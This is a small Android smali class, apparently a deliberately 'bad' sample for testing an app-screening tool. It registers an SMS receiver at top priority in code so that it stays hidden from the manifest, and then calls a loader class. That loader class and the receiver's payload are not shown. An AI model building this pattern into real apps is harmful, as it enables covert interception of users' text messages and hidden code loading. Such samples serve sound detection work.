.class public Lcom/appwarden/screen/bad2/MainActivity;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

# registers the SMS receiver in code (not in the manifest), at the highest priority
.method protected onCreate(Landroid/os/Bundle;)V
    .locals 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Landroid/content/IntentFilter;
    const-string v1, "android.provider.Telephony.SMS_RECEIVED"
    invoke-direct {v0, v1}, Landroid/content/IntentFilter;-><init>(Ljava/lang/String;)V
    const/16 v1, 0x3e8
    invoke-virtual {v0, v1}, Landroid/content/IntentFilter;->setPriority(I)V
    new-instance v2, Lcom/appwarden/screen/bad2/DynSms;
    invoke-direct {v2}, Lcom/appwarden/screen/bad2/DynSms;-><init>()V
    invoke-virtual {p0, v2, v0}, Landroid/content/Context;->registerReceiver(Landroid/content/BroadcastReceiver;Landroid/content/IntentFilter;)Landroid/content/Intent;
    invoke-static {p0}, Lcom/appwarden/screen/bad2/Loader;->load(Landroid/content/Context;)V
    return-void
.end method
